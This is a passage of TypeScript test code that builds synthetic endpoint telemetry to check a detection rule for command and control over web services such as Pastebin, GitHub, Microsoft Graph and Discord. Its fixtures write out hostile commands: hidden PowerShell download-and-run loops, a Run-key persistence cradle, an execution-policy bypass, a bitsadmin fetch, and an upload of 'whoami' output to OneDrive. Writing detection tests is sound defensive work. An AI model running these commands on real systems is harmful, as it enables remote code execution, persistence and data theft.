      cmp(a.host, b.host) ||
      cmp(a.user, b.user) ||
      cmp(a.process, b.process) ||
      cmp(a.domain, b.domain),
  );
  const lines = rows.map((g) =>
    [
      g.host,
      g.user,
      g.process,
      g.domain,
      String(g.count),
      new Date(g.first).toISOString(),
      new Date(g.last).toISOString(),
    ]
      .map(csvField)
      .join(','),
  );
  return `${[CSV_HEADER, ...lines].join('\n')}\n`;
}

// ---------------------------------------------------------------------------------------------
// The five scenarios of the seed pages' "Testing Methodology"
// ---------------------------------------------------------------------------------------------

const PS = 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe';
const CMD = 'C:\\Windows\\System32\\cmd.exe';
const CONHOST = 'C:\\Windows\\System32\\conhost.exe';
const EXPLORER = 'C:\\Windows\\explorer.exe';
const SVCHOST = 'C:\\Windows\\System32\\svchost.exe';
const MSMPENG =
  'C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.24030.9-0\\MsMpEng.exe';
const SYSTEM = 'NT AUTHORITY\\SYSTEM';
const CHROME = 'C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe';
const MSEDGE = 'C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe';
const RUN_KEY = 'Software\\Microsoft\\Windows\\CurrentVersion\\Run';

/** Cloudflare addresses pastebin.com answered with in 2024. */
const PASTEBIN_IPS = ['104.20.67.143', '172.67.34.170', '104.20.68.143'];
/** GitHub's Fastly pool behind raw., objects. and other *.githubusercontent.com hosts. */
const GITHUB_CDN_IPS = ['185.199.110.133', '185.199.108.133', '185.199.111.133', '185.199.109.133'];
const GRAPH_CNAMES = ['ags.privatelink.msidentity.com', 'www.tm.ags.privatelink.msidentity.com'];

function windowsHostBase(
  name: string,
  user: string,
): Pick<
  Scenario,
  'name' | 'platform' | 'machineDomain' | 'osVersion' | 'cid' | 'agentVersion' | 'volume'
> & { procs: Record<string, ProcDef> } {
  return {
    name,
    platform: 'win',
    machineDomain: 'corp.example.com',
    osVersion: 'Windows 10',
    cid: '8f3c2a7d5e1b4c9a0d6e2f1a3b5c7d9e',
    agentVersion: '7.14.18408.0',
    volume: '\\Device\\HarddiskVolume2',
    procs: {
      services: {
        image: 'C:\\Windows\\System32\\services.exe',
        cmd: 'C:\\Windows\\system32\\services.exe',
        user: SYSTEM,
        start: '2024-01-01T00:00:00.000Z',
        pid: 712,
      },
      userinit: {
        image: 'C:\\Windows\\System32\\userinit.exe',
        cmd: 'C:\\Windows\\system32\\userinit.exe',
        user,
        start: '2024-01-01T00:00:00.000Z',
        pid: 5548,
      },
      explorer: {
        image: EXPLORER,
        cmd: 'C:\\Windows\\Explorer.EXE',
        user,
        parent: 'userinit',
        start: '2024-01-01T00:00:00.000Z',
        pid: 5872,
      },
      svchost: {
        image: SVCHOST,
        cmd: 'C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule',
        user: SYSTEM,
        parent: 'services',
        start: '2024-01-01T00:00:00.000Z',
        pid: 1464,
      },
      msmpeng: {
        image: MSMPENG,
        cmd: `"${MSMPENG}"`,
        user: SYSTEM,
        parent: 'services',
        start: '2024-01-01T00:00:00.000Z',
        pid: 3920,
      },
    },
  };
}

/** Test 1: PowerShell dead drop resolver via Pastebin (WKS-7, CORP\jdoe). */
function pastebinScenario(): Scenario {
  const user = 'CORP\\jdoe';
  const base = windowsHostBase('t1102-01-pastebin-powershell', user);
  const sid = 'S-1-5-21-3623811015-3361044348-30300820';
  return {
    ...base,
    date: '2024-03-05',
    host: 'WKS-7',
    hostIp: '10.20.7.41',
    domainSid: sid,
    aid: '5b1f0e4c2a9d47e3b6c8a1d0f2e4c6a8',
    guidPrefix: '7d3a91c4',
    guidTail: '000000000b00',
    firstRecordId: 184_211,
    sysmonPid: 3180,
    sysmonTid: 4412,
    sysmonDnsTid: 5096,
    aidmasterFirst: false,
    procs: {
      ...base.procs,
      chrome: {
        image: CHROME,
        cmd: `"${CHROME}" `,
        user,
        parent: 'explorer',
        start: '08:51:36.004',
        pid: 9120,
      },
      cmd: {
        image: CMD,
        cmd: `${CMD} /c start /min powershell.exe -NoP -W Hidden -C "$u=(New-Object Net.WebClient).DownloadString('https://pastebin.com/raw/9ZQ3vK1p')"`,
        user,
        parent: 'explorer',
        start: '09:14:21.588',
        pid: 7740,
      },
      ps: {
        image: PS,
        cmd: `powershell.exe  -NoP -W Hidden -C "$u=(New-Object Net.WebClient).DownloadString('https://pastebin.com/raw/9ZQ3vK1p'); while($true){(New-Object Net.WebClient).DownloadFile($u.Trim(), \\"$env:TEMP\\svc.ps1\\"); . \\"$env:TEMP\\svc.ps1\\"; Start-Sleep 900; $u=(New-Object Net.WebClient).DownloadString('https://pastebin.com/raw/9ZQ3vK1p')}"`,
        user,
        parent: 'cmd',
        start: '09:14:21.870',
        pid: 6604,
      },
      conhost: {
        image: CONHOST,
        cmd: '\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1',
        user,
        parent: 'ps',
        start: '09:14:21.902',
        pid: 6612,
      },
      lookalike: {
        image: PS,
        cmd: `"${PS}" -NoProfile -Command "iwr https://evilpastebin.com/raw/q1 -UseBasicParsing; iwr https://pastebin.com.evil.io/x -UseBasicParsing"`,
        user,
        parent: 'explorer',
        start: '09:35:00.512',
        pid: 10212,
      },
      cmd2: {
        image: CMD,
        cmd: `"${CMD}" `,
        user,
        parent: 'explorer',
        start: '09:40:51.330',
        pid: 2260,
      },
      bitsadmin: {
        image: 'C:\\Windows\\System32\\bitsadmin.exe',
        cmd: 'bitsadmin.exe /transfer WinUpd /download /priority FOREGROUND https://raw.githubusercontent.com/n0va-tools/ps-utils/main/Invoke-Update.ps1 C:\\Users\\jdoe\\AppData\\Local\\Temp\\upd.ps1',
        user,
        parent: 'ps',
        start: '09:16:40.118',
        pid: 9376,
      },
      bits: {
        image: SVCHOST,
        cmd: 'C:\\Windows\\System32\\svchost.exe -k netsvcs -p -s BITS',
        user: SYSTEM,
        parent: 'services',
        start: '2024-01-01T00:00:00.000Z',
        pid: 1388,
      },
      renamed: {
        image: 'C:\\Users\\Public\\chrome.exe',
        originalFileName: 'PowerShell.EXE',
        cmd: `C:\\Users\\Public\\chrome.exe -nop -w hidden -ep bypass -c "IEX(New-Object Net.WebClient).DownloadString('https://pastebin.com/raw/Lm4Qx8Tz')"`,
        user,
        parent: 'cmd2',
        start: '09:41:10.220',
        pid: 8836,
      },
    },
    steps: [
      { t: 'start', p: 'chrome', sysmon: false, falcon: 'synthetic', at: '09:05:00.116' },
      { t: 'start', p: 'bits', sysmon: false, falcon: 'synthetic', at: '09:05:00.131' },
      { t: 'access', p: 'msmpeng', target: 'chrome', at: '09:05:12.733', access: '0x1000' },
      {
        t: 'reg',
        p: 'svchost',
        at: '09:10:04.201',
        key: `HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Schedule\\TaskCache\\Tasks\\{4B8C1A2E-6F3D-4E0A-9C71-2D5B8E3F6A10}`,
        value: 'DynamicInfo',
        details: 'Binary Data',
      },
      // Both command lines name pastebin.com in a URL, and cmd.exe and powershell.exe are suspicious:
      // each start is an event (rule v2). conhost's ParentCommandLine names it too, but that is
      // the parent's command line, not conhost's.
      { t: 'start', p: 'cmd', expect: ['pastebin.com'] },
      { t: 'start', p: 'ps', expect: ['pastebin.com'] },
      { t: 'start', p: 'conhost' },
      { t: 'load', p: 'ps', at: '09:14:22.090', dll: 'sma' },
      { t: 'access', p: 'msmpeng', target: 'ps', at: '09:14:22.155', access: '0x101000' },
      { t: 'end', p: 'cmd', at: '09:14:22.301' },
      // The dead drop: pastebin.com first, then the GitHub raw URL the paste pointed to.
      {
        t: 'dns',
        p: 'ps',
        at: '09:14:22.418',
        name: 'pastebin.com',
        ips: PASTEBIN_IPS,
        expect: 'pastebin.com',
      },
      { t: 'net', p: 'ps', at: '09:14:22.431', ip: '104.20.67.143', expect: 'pastebin.com' },
      {
        t: 'dns',
        p: 'ps',
        at: '09:14:23.052',
        name: 'raw.githubusercontent.com',
        ips: GITHUB_CDN_IPS,
        expect: 'raw.githubusercontent.com',
      },
      // Sysmon's reverse lookup names the CDN node, cdn-185-199-110-133.github.com. Rule v2 lists
      // github.com (medium), so that name is listed and usable as it is: the DNS join applies only
      // to a missing or unlisted name (SPEC §2). Falcon has no reverse name: its DNS join names
      // the connection raw.githubusercontent.com.
      {
        t: 'net',
        p: 'ps',
        at: '09:14:23.067',
        ip: '185.199.110.133',
        rdns: 'cdn-185-199-110-133.github.com',
        expect: { sysmon: 'cdn-185-199-110-133.github.com', falcon: 'raw.githubusercontent.com' },
      },
      {
        t: 'file',
        p: 'ps',
        at: '09:14:23.301',
        path: 'C:\\Users\\jdoe\\AppData\\Local\\Temp\\svc.ps1',
      },
      // The persistence value names pastebin.com: raw event text must never match.
      {
        t: 'reg',
        p: 'ps',
        at: '09:14:23.420',
        key: `HKU\\${userSid(sid, user)}\\${RUN_KEY}`,
        value: 'WindowsUpdateSvc',
        details: `powershell.exe -NoP -W Hidden -C "IEX (New-Object Net.WebClient).DownloadString('https://pastebin.com/raw/9ZQ3vK1p')"`,
      },
      // A BITS job: bitsadmin makes no connection of its own, the BITS service does. Only its
      // command line names raw.githubusercontent.com (rule v2: a process-start event). The
      // service, svchost.exe in System32 started by services.exe, matches no branch.
      { t: 'start', p: 'bitsadmin', expect: ['raw.githubusercontent.com'] },
      {
        t: 'dns',
        p: 'bits',
        at: '09:16:40.502',
        name: 'raw.githubusercontent.com',
        ips: GITHUB_CDN_IPS,
      },
      {
        t: 'net',
        p: 'bits',
        at: '09:16:40.519',
        ip: '185.199.109.133',
        rdns: 'cdn-185-199-109-133.github.com',
      },
      {
        t: 'file',
        p: 'bits',
        at: '09:16:40.911',
        path: 'C:\\Users\\jdoe\\AppData\\Local\\Temp\\upd.ps1',
      },
      { t: 'end', p: 'bitsadmin', at: '09:16:41.230' },
      // Chrome reading the same paste: an excluded client where it lives.
      { t: 'dns', p: 'chrome', at: '09:20:03.117', name: 'pastebin.com', ips: PASTEBIN_IPS },
      { t: 'net', p: 'chrome', at: '09:20:03.140', ip: '104.20.67.143' },
      {
        t: 'dns',
        p: 'chrome',
        at: '09:20:04.502',
        name: 'raw.githubusercontent.com',
        ips: GITHUB_CDN_IPS,
      },
      {
        t: 'net',
        p: 'chrome',
        at: '09:20:04.519',
        ip: '185.199.108.133',
        rdns: 'cdn-185-199-108-133.github.com',
      },
      {
        t: 'file',
        p: 'chrome',
        at: '09:20:05.004',
        path: 'C:\\Users\\jdoe\\Downloads\\notes.txt.crdownload',
      },
      // The beacon polls the paste again fifteen minutes later.
      {
        t: 'dns',
        p: 'ps',
        at: '09:29:22.503',
        name: 'pastebin.com',
        ips: ['172.67.34.170', '104.20.68.143', '104.20.67.143'],
        expect: 'pastebin.com',
      },
      { t: 'net', p: 'ps', at: '09:29:22.519', ip: '172.67.34.170', expect: 'pastebin.com' },
      // Look-alikes on the label boundary, in the command line and the queries: neither is
      // pastebin.com.
      { t: 'start', p: 'lookalike' },
      {
        t: 'dns',
        p: 'lookalike',
        at: '09:35:01.224',
        name: 'evilpastebin.com',
        ips: ['45.137.21.9'],
      },
      { t: 'net', p: 'lookalike', at: '09:35:01.240', ip: '45.137.21.9' },
      {
        t: 'dns',
        p: 'lookalike',
        at: '09:35:01.871',
        name: 'pastebin.com.evil.io',
        ips: ['185.234.72.19'],
      },
      { t: 'net', p: 'lookalike', at: '09:35:01.889', ip: '185.234.72.19' },
      { t: 'end', p: 'lookalike', at: '09:35:02.410' },
      // PowerShell renamed to chrome.exe in C:\Users\Public: not where Chrome lives, so not an
      // excluded client (rule v2). Sysmon's OriginalFileName still says PowerShell (branch a);
      // Falcon has no OriginalFileName, but a high-tier domain from a user-writable path is
      // branch c. Its command line names pastebin.com: the start is an event too.
      { t: 'start', p: 'cmd2' },
      { t: 'start', p: 'renamed', expect: ['pastebin.com'] },
      { t: 'load', p: 'renamed', at: '09:41:10.512', dll: 'sma' },
      {
        t: 'dns',
        p: 'renamed',
        at: '09:41:10.905',
        name: 'pastebin.com',
        ips: ['172.67.34.170', '104.20.67.143', '104.20.68.143'],
        expect: 'pastebin.com',
      },
      { t: 'net', p: 'renamed', at: '09:41:10.921', ip: '104.20.68.143', expect: 'pastebin.com' },
      { t: 'end', p: 'renamed', at: '09:41:12.004' },
      {
        t: 'file',
        p: 'svchost',
        at: '09:41:14.880',
        path: 'C:\\Windows\\Prefetch\\CHROME.EXE-5FE9C2D1.pf',
      },
    ],
  };
}

/** Test 2: simulated OneDrive C2 through the Microsoft Graph API (WKS-12, CORP\asmith). */
function graphScenario(): Scenario {
  const user = 'CORP\\asmith';
  const base = windowsHostBase('t1102-02-graph-onedrive-powershell', user);
  const sid = 'S-1-5-21-1844237615-456351123-2142713530';
  const onedrive = 'C:\\Users\\asmith\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe';
  const teams =
    'C:\\Program Files\\WindowsApps\\MSTeams_24060.2623.2790.8046_x64__8wekyb3d8bbwe\\ms-teams.exe';
  const word = 'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE';
  const updater = 'C:\\Users\\asmith\\AppData\\Local\\Temp\\updater.exe';
  const zoom = 'C:\\Users\\asmith\\AppData\\Roaming\\Zoom\\bin\\Zoom.exe';
  return {
    ...base,
    date: '2024-04-17',
    host: 'WKS-12',
    hostIp: '10.20.12.77',
    domainSid: sid,
    aid: 'c7e2d9a14b3f4f0e8a5d6b2c1e9f3a47',
    guidPrefix: '2f6b8e15',
    guidTail: '000000000d00',
    firstRecordId: 96_502,
    sysmonPid: 3244,
    sysmonTid: 3968,
    sysmonDnsTid: 6120,
    aidmasterFirst: true,
    procs: {
      ...base.procs,
      shell: {
        image: PS,
        cmd: `"${PS}" `,
        user,
        parent: 'explorer',
        start: '2024-04-17T12:58:40.118Z',
        pid: 4436,
      },
      ps: {
        image: PS,
        cmd: `"${PS}" -NoProfile -Command "$h=@{Authorization='Bearer eyJ0eXAiOiJKV1QiLCJub25jZSI6IkR1bW15In0'}; $c=Invoke-RestMethod -Uri 'https://graph.microsoft.com/v1.0/me/drive/root:/sync/tasks.txt:/content' -Headers $h; Invoke-RestMethod -Method Put -Uri 'https://graph.microsoft.com/v1.0/me/drive/root:/sync/out.txt:/content' -Headers $h -Body (whoami /all | Out-String)"`,
        user,
        parent: 'shell',
        start: '13:02:11.640',
        pid: 8120,
      },
      intune: {
        image: PS,
        cmd: `"${PS}" -NoProfile -ExecutionPolicy Bypass -File "C:\\Program Files\\Contoso\\InventorySync\\Sync-Devices.ps1" -GraphUri https://graph.microsoft.com/v1.0`,
        user: 'CORP\\svc_intune',
        parent: 'svchost',
        start: '2024-04-17T12:00:04.310Z',
        pid: 2908,
      },
      onedrive: {
        image: onedrive,
        cmd: `"${onedrive}" /background`,
        user,
        parent: 'explorer',
        start: '2024-04-17T07:41:22.904Z',
        pid: 7012,
      },
      teams: {
        image: teams,
        cmd: `"${teams}" msteams:system-initiated`,
        user,
        parent: 'explorer',
        start: '2024-04-17T07:41:25.377Z',
        pid: 7388,
      },
      msedge: {
        image: MSEDGE,
        cmd: `"${MSEDGE}" --single-argument https://contoso.sharepoint.com/sites/Finance/Shared%20Documents/Q2.xlsx`,
        user,
        parent: 'explorer',
        start: '2024-04-17T08:02:10.552Z',
        pid: 9544,
      },
      zoom: {
        image: zoom,
        cmd: `"${zoom}" "--autostart"`,
        user,
        parent: 'explorer',
        start: '2024-04-17T07:41:27.015Z',
        pid: 7460,
      },
      word: {
        image: word,
        cmd: `"${word}" /n "C:\\Users\\asmith\\Downloads\\Q2_Budget_Review.docm" /o ""`,
        user,
        parent: 'explorer',
        start: '13:10:02.771',
        pid: 10440,
      },
      updater: {
        image: updater,
        cmd: `"${updater}" /silent`,
        user,
        parent: 'word',
        start: '13:10:10.102',
        pid: 11604,
      },
    },
    steps: [
      { t: 'start', p: 'onedrive', sysmon: false, falcon: 'synthetic', at: '12:55:00.020' },
      { t: 'start', p: 'teams', sysmon: false, falcon: 'synthetic', at: '12:55:00.031' },
      // Edge opened a SharePoint link: sharepoint.com is listed, but Edge where it lives is an
      // excluded client, so its process record is no event.
      { t: 'start', p: 'msedge', sysmon: false, falcon: 'synthetic', at: '12:55:00.047' },
      { t: 'start', p: 'zoom', sysmon: false, falcon: 'synthetic', at: '12:55:00.059' },
      {
        t: 'dns',
        p: 'onedrive',
        at: '12:57:31.882',
        name: 'onedrive.live.com',
        cnames: ['odc-web-brs.onedrive.akadns.net'],
        ips: ['13.107.42.13'],
      },
      { t: 'net', p: 'onedrive', at: '12:57:31.904', ip: '13.107.42.13' },
      {
        t: 'dns',
        p: 'onedrive',
        at: '12:57:32.460',
        name: 'api.onedrive.com',
        cnames: ['odc-commonapi-geo.onedrive.akadns.net'],
        ips: ['13.107.42.12'],
      },
      { t: 'net', p: 'onedrive', at: '12:57:32.477', ip: '13.107.42.12' },
      {
        t: 'dns',
        p: 'teams',
        at: '12:58:02.115',
        name: 'graph.microsoft.com',
        cnames: GRAPH_CNAMES,
        ips: ['20.190.151.7', '20.190.151.131'],
      },
      { t: 'net', p: 'teams', at: '12:58:02.139', ip: '20.190.151.131' },
      { t: 'start', p: 'shell', sysmon: false, falcon: 'synthetic', at: '12:58:40.300' },
      // Its command line names graph.microsoft.com twice: one process-start event.
      { t: 'start', p: 'ps', expect: ['graph.microsoft.com'] },
      { t: 'load', p: 'ps', at: '13:02:11.902', dll: 'sma' },
      {
        t: 'dns',
        p: 'ps',
        at: '13:02:12.011',
        name: 'login.microsoftonline.com',
        cnames: ['login.mso.msidentity.com', 'ak.privatelink.msidentity.com'],
        ips: ['40.126.32.134', '40.126.32.68'],
      },
      { t: 'net', p: 'ps', at: '13:02:12.030', ip: '40.126.32.134' },
      {
        t: 'dns',
        p: 'ps',
        at: '13:02:12.207',
        name: 'graph.microsoft.com',
        cnames: GRAPH_CNAMES,
        ips: ['20.190.151.68', '20.190.151.9', '20.190.151.132'],
        expect: 'graph.microsoft.com',
      },
      { t: 'net', p: 'ps', at: '13:02:12.226', ip: '20.190.151.68', expect: 'graph.microsoft.com' },
      { t: 'net', p: 'ps', at: '13:02:13.018', ip: '20.190.151.9', expect: 'graph.microsoft.com' },
      { t: 'end', p: 'ps', at: '13:02:13.655' },
      // An inventory script that started before the batch: no EventID 1. Sysmon's DNS event has
      // no User, so the user comes from the connection of the same ProcessGuid (written later);
      // Falcon names the process by a SyntheticProcessRollup2 that also comes later. That record
      // is a process record like any other: its command line names graph.microsoft.com, so it is
      // an event in Falcon, at its own `timestamp` (after the connection).
      {
        t: 'dns',
        p: 'intune',
        at: '13:05:40.118',
        name: 'graph.microsoft.com',
        cnames: GRAPH_CNAMES,
        ips: ['20.190.151.7', '20.190.151.70'],
        expect: 'graph.microsoft.com',
      },
      {
        t: 'start',
        p: 'intune',
        sysmon: false,
        falcon: 'synthetic',
        at: '13:05:40.126',
        expect: { falcon: ['graph.microsoft.com'] },
      },
      {
        t: 'net',
        p: 'intune',
        at: '13:05:40.139',
        ip: '20.190.151.70',
        expect: 'graph.microsoft.com',
      },
      {
        t: 'dns',
        p: 'msedge',
        at: '13:06:18.740',
        name: 'graph.microsoft.com',
        cnames: GRAPH_CNAMES,
        ips: ['20.190.151.9', '20.190.151.68'],
      },
      { t: 'net', p: 'msedge', at: '13:06:18.761', ip: '20.190.151.9' },
      // A per-user install in AppData syncing its Outlook calendar: a user-writable path, but
      // graph.microsoft.com is medium tier, which branch c never matches; Zoom is not suspicious
      // and its parent is Explorer.
      {
        t: 'dns',
        p: 'zoom',
        at: '13:07:02.336',
        name: 'graph.microsoft.com',
        cnames: GRAPH_CNAMES,
        ips: ['20.190.151.131', '20.190.151.7'],
      },
      { t: 'net', p: 'zoom', at: '13:07:02.358', ip: '20.190.151.131' },
      // Word opens a macro document; Word itself talking to Graph is not suspicious ...
      { t: 'start', p: 'word' },
      { t: 'load', p: 'word', at: '13:10:03.410', dll: 'vbe7' },
      {
        t: 'dns',
        p: 'word',
        at: '13:10:04.330',
        name: 'graph.microsoft.com',
        cnames: GRAPH_CNAMES,
        ips: ['20.190.151.132'],
      },
      { t: 'net', p: 'word', at: '13:10:04.352', ip: '20.190.151.132' },
      { t: 'file', p: 'word', at: '13:10:09.884', path: updater },
      // ... but the unsigned child it drops is, through its Office parent.
      { t: 'start', p: 'updater' },
      { t: 'access', p: 'msmpeng', target: 'updater', at: '13:10:10.240', access: '0x101000' },
      {
        t: 'dns',
        p: 'updater',
        at: '13:10:10.655',
        name: 'content.dropboxapi.com',
        cnames: ['edge-block-api-env1.dropbox-dns.com'],
        ips: ['162.125.6.14'],
        expect: 'content.dropboxapi.com',
      },
      {
        t: 'net',
        p: 'updater',
        at: '13:10:10.689',
        ip: '162.125.6.14',
        expect: 'content.dropboxapi.com',
      },
      {
        t: 'reg',
        p: 'updater',
        at: '13:10:11.020',
        key: `HKU\\${userSid(sid, user)}\\${RUN_KEY}`,
        value: 'OfficeUpdater',
        details: `"${updater}" /silent`,
      },
      { t: 'end', p: 'updater', at: '13:10:12.331' },
      {
        t: 'dns',
        p: 'onedrive',
        at: '13:12:44.006',
        name: 'graph.microsoft.com',
        cnames: GRAPH_CNAMES,
        ips: ['20.190.151.68'],
      },
      { t: 'net', p: 'onedrive', at: '13:12:44.030', ip: '20.190.151.68' },
      {
        t: 'file',
        p: 'svchost',
        at: '13:12:50.117',
        path: 'C:\\Windows\\Prefetch\\UPDATER.EXE-2B7D41C0.pf',
      },
    ],
  };
}

/** Test 3: curl on Linux fetching GitHub raw content (lnx-dev-03, root). */
function linuxCurlScenario(): Scenario {
  const bash = '/usr/bin/bash';
  return {
    name: 't1102-03-github-raw-curl-linux',
    platform: 'lin',
    date: '2024-06-11',
    host: 'lnx-dev-03',
    hostIp: '10.30.3.15',
    machineDomain: '',
    osVersion: 'Ubuntu 22.04',
    domainSid: '',
    aid: '0e9d4c7b3a2f41d8b5c6e7f8a9b0c1d2',
    cid: '8f3c2a7d5e1b4c9a0d6e2f1a3b5c7d9e',
    agentVersion: '7.13.16902.0',
    volume: '',
    guidPrefix: 'b4e1c07a',
    guidTail: '7d5500000000',
    firstRecordId: 30_117,
    sysmonPid: 812,
    sysmonTid: 812,
    sysmonDnsTid: 812,
    aidmasterFirst: false,
    procs: {
      sshd: {
        image: '/usr/sbin/sshd',
        cmd: 'sshd: root@pts/0',
        user: 'root',
        start: '2024-06-11T22:30:01.000Z',
        pid: 1802,
      },
      bash: {
        image: bash,
        cmd: '-bash',
        user: 'root',
        parent: 'sshd',
        start: '2024-06-11T22:30:02.114Z',
        pid: 1841,
      },
      cron: {
        image: '/usr/sbin/cron',
        cmd: '/usr/sbin/cron -f -P',
        user: 'root',
        start: '2024-06-01T06:00:00.000Z',
        pid: 611,
      },
      deployShell: {
        image: '/usr/bin/sh',
        cmd: '/bin/sh -c /opt/deploy/bin/check-release.sh',
        user: 'deploy',
        parent: 'cron',
        start: '22:45:00.004',
        pid: 2290,
      },
      curl: {
        image: '/usr/bin/curl',
        cmd: 'curl -fsSL https://raw.githubusercontent.com/redcanaryco/atomic-red-team/master/atomics/T1102/src/T1102.txt -o /tmp/df00tech-test-payload.txt',
        user: 'root',
        parent: 'bash',
        start: '22:41:07.202',
        pid: 2214,
      },
      curlGithub: {
        image: '/usr/bin/curl',
        cmd: 'curl -sI https://github.com/',
        user: 'root',
        parent: 'bash',
        start: '22:43:30.011',
        pid: 2251,
      },
      wget: {
        image: '/usr/bin/wget',
        cmd: 'wget -q https://objects.githubusercontent.com/github-production-release-asset-2e65be/9524057/node_exporter-1.8.1.linux-amd64.tar.gz -O /tmp/ne.tgz',
        user: 'root',
        parent: 'bash',
        start: '22:44:02.590',
        pid: 2263,
      },
      python: {
        image: '/usr/bin/python3.11',
        cmd: `python3.11 -c "import json,urllib.request;print(json.load(urllib.request.urlopen('https://api.github.com/repos/acme-corp/deploy-tools/releases/latest'))['tag_name'])"`,
        user: 'deploy',
        parent: 'deployShell',
        start: '22:45:00.118',
        pid: 2294,
      },
      firefox: {
        image: '/usr/lib/firefox/firefox',
        cmd: '/usr/lib/firefox/firefox',
        user: 'mchen',
        parent: 'bash',
        start: '2024-06-11T21:02:44.500Z',
        pid: 1377,
      },
      apt: {
        image: '/usr/lib/apt/methods/http',
        cmd: '/usr/lib/apt/methods/http',
        user: '_apt',
        parent: 'bash',
        start: '22:47:12.030',
        pid: 2318,
      },
    },
    steps: [
      { t: 'start', p: 'bash', sysmon: false, falcon: 'synthetic', at: '22:40:00.010' },
      { t: 'start', p: 'firefox', sysmon: false, falcon: 'synthetic', at: '22:40:00.022' },
      // curl's command line names raw.githubusercontent.com: the start is an event (rule v2).
      { t: 'start', p: 'curl', expect: ['raw.githubusercontent.com'] },
      // Sysmon for Linux has no DNS event and no reverse lookup: the connection is named only
      // by the listed host in curl's own command line. Falcon has the DnsRequest.
      {
        t: 'dns',
        p: 'curl',
        at: '22:41:07.219',
        name: 'raw.githubusercontent.com',
        ips: ['185.199.109.133', '185.199.110.133', '185.199.111.133', '185.199.108.133'],
        expect: 'raw.githubusercontent.com',
        only: 'falcon',
      },
      {
        t: 'net',
        p: 'curl',
        at: '22:41:07.236',
        ip: '185.199.109.133',
        expect: 'raw.githubusercontent.com',
      },
      {
        t: 'file',
        p: 'curl',
        at: '22:41:07.402',
        path: '/tmp/df00tech-test-payload.txt',
        only: 'sysmon',
      },
      { t: 'end', p: 'curl', at: '22:41:07.409' },
      // A browser on the same CDN address: neither excluded nor suspicious, so never an alert.
      {
        t: 'dns',
        p: 'firefox',
        at: '22:42:15.880',
        name: 'raw.githubusercontent.com',
        ips: GITHUB_CDN_IPS,
        only: 'falcon',
      },
      { t: 'net', p: 'firefox', at: '22:42:15.902', ip: '185.199.110.133' },
      // Rule v2 lists github.com (medium tier): curl is suspicious, so its start, its query and
      // its connection (named in Sysmon by the host in its command line) all match.
      { t: 'start', p: 'curlGithub', expect: ['github.com'] },
      {
        t: 'dns',
        p: 'curlGithub',
        at: '22:43:30.020',
        name: 'github.com',
        ips: ['140.82.113.4'],
        expect: 'github.com',
        only: 'falcon',
      },
      { t: 'net', p: 'curlGithub', at: '22:43:30.041', ip: '140.82.113.4', expect: 'github.com' },
      { t: 'end', p: 'curlGithub', at: '22:43:30.288' },
      // The address curl resolved for raw.githubusercontent.com, resolved by wget for
      // objects.githubusercontent.com (high tier in rule v2). wget's connection is named by its
      // own query (Falcon) or its own command line (Sysmon), never by curl's answer.
      { t: 'start', p: 'wget', expect: ['objects.githubusercontent.com'] },
      {
        t: 'dns',
        p: 'wget',
        at: '22:44:02.604',
        name: 'objects.githubusercontent.com',
        ips: ['185.199.109.133', '185.199.108.133'],
        expect: 'objects.githubusercontent.com',
        only: 'falcon',
      },
      {
        t: 'net',
        p: 'wget',
        at: '22:44:02.622',
        ip: '185.199.109.133',
        expect: 'objects.githubusercontent.com',
      },
      { t: 'file', p: 'wget', at: '22:44:03.915', path: '/tmp/ne.tgz', only: 'sysmon' },
      { t: 'end', p: 'wget', at: '22:44:03.921' },
      // A versioned python3.N from a deploy job: the rule fires (the seeds' false-positive note).
      { t: 'start', p: 'deployShell' },
      { t: 'start', p: 'python', expect: ['api.github.com'] },
      {
        t: 'dns',
        p: 'python',
        at: '22:45:00.201',
        name: 'api.github.com',
        ips: ['140.82.112.6'],
        expect: 'api.github.com',
        only: 'falcon',
      },
      { t: 'net', p: 'python', at: '22:45:00.233', ip: '140.82.112.6', expect: 'api.github.com' },
      { t: 'end', p: 'python', at: '22:45:00.702' },
      { t: 'end', p: 'deployShell', at: '22:45:00.710' },
      { t: 'start', p: 'apt' },
      {
        t: 'dns',
        p: 'apt',
        at: '22:47:12.088',
        name: 'archive.ubuntu.com',
        ips: ['91.189.91.82', '185.125.190.36'],
        only: 'falcon',
      },
      { t: 'net', p: 'apt', at: '22:47:12.106', ip: '91.189.91.82', port: 80 },
      { t: 'end', p: 'apt', at: '22:47:14.550' },
    ],
  };
}

/** Test 4: Discord webhook C2 (LAPTOP-MKT-04, CORP\mlee). */
function discordScenario(): Scenario {
  const user = 'CORP\\mlee';
  const base = windowsHostBase('t1102-04-discord-webhook-powershell', user);
  const sid = 'S-1-5-21-2970105862-1510364151-4037193314';
  const discord = 'C:\\Users\\mlee\\AppData\\Local\\Discord\\app-1.0.9157\\Discord.exe';
  const slack = 'C:\\Users\\mlee\\AppData\\Local\\slack\\app-4.39.95\\slack.exe';
  const webhook = 'api/webhooks/1275473819028230144/Yq2kP0vD8nWmT4xRb7cLs1';
  const outlook = 'C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE';
  const impostor = 'C:\\Users\\mlee\\AppData\\Roaming\\slack.exe';
  return {
    ...base,
    date: '2024-08-20',
    host: 'LAPTOP-MKT-04',
    hostIp: '192.168.1.23',
    domainSid: sid,
    aid: '9a4d2f6e8b1c43a7a0e5d3c2b1f4e6d8',
    guidPrefix: 'e8c45b07',
    guidTail: '000000000a00',
    firstRecordId: 51_880,
    sysmonPid: 2876,
    sysmonTid: 3344,
    sysmonDnsTid: 5560,
    aidmasterFirst: true,
    procs: {
      ...base.procs,
      discord: {
        image: discord,
        cmd: `"${discord}" --processStart Discord.exe`,
        user,
        parent: 'explorer',
        start: '2024-08-20T08:15:31.200Z',
        pid: 6140,
      },
      slack: {
        image: slack,
        cmd: `"${slack}" --startup`,
        user,
        parent: 'explorer',
        start: '2024-08-20T08:15:33.610Z',
        pid: 6388,
      },
      msedge: {
        image: MSEDGE,
        cmd: `"${MSEDGE}" --profile-directory=Default`,
        user,
        parent: 'explorer',
        start: '2024-08-20T09:01:02.417Z',
        pid: 8012,
      },
      ps: {
        image: PS,
